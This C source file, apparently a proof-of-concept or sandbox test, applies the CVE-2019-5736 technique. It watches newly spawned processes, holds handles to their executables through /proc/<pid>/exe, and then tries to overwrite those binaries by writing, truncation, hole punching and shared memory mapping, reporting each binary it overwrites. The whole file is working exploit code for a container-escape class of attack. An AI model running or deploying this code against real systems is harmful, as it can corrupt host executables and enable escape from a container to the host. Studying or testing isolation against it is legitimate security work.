/* Overwrites programs that others run, by way of /proc/<pid>/exe: the technique of CVE-2019-5736.
 *
 *   overwrite SECONDS       holds the program of each newcomer, and writes to it as soon as it can
 *
 * Says "held NAME" and "overwritten NAME", by what the link says, and "done". */

#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <time.h>
#include <unistd.h>

#define MOST 512

static struct { int fd, over; char name[128]; } held[MOST];
static int count;

static void hold(int pid)
{
	char path[64], name[128];

	snprintf(path, sizeof path, "/proc/%d/exe", pid);
	ssize_t size = readlink(path, name, sizeof name - 1);
	int fd = size > 0 ? open(path, O_PATH) : -1;
	if (fd < 0)
		return;
	name[size] = 0;
	for (int i = 0; i < count; i++)
		if (!strcmp(held[i].name, name) && !strstr(name, "memfd")) {
			close(fd);
			return;
		}
	if (count == MOST)
		return;
	held[count].fd = fd;
	strcpy(held[count++].name, name);
	printf("held %s\n", name);
}

static void write_to(int i)
{
	char path[64];

	snprintf(path, sizeof path, "/proc/self/fd/%d", held[i].fd);
	int fd = open(path, O_RDWR);
	if (fd < 0)
		return;
	if (pwrite(fd, "#!/pwned", 8, 0) == 8 || ftruncate(fd, 0) == 0 ||
	    fallocate(fd, FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE, 0, 4096) == 0 ||
	    mmap(0, 4096, PROT_WRITE, MAP_SHARED, fd, 0) != MAP_FAILED) {
		held[i].over = 1;
		printf("overwritten %s\n", held[i].name);
	}
	close(fd);
}

int main(int argc, char **argv)
{
	time_t end = time(0) + (argc > 1 ? atoi(argv[1]) : 10);
	int next = getpid() + 1;
	char path[64];

	setvbuf(stdout, 0, _IOLBF, 0);
	printf("waiting\n");
	while (access("/tmp/stop", F_OK) && time(0) < end) {
		for (int pid = next; pid < next + 16; pid++) {
			snprintf(path, sizeof path, "/proc/%d", pid);
			if (access(path, F_OK))
				continue;
			/* More than one look: it becomes another program on its way. */
			for (int look = 0; look < 50; look++)
				hold(pid);
			next = pid + 1;
		}
		for (int i = 0; i < count; i++)
			if (!held[i].over)
				write_to(i);
	}
	printf("done\n");
	return 0;
}
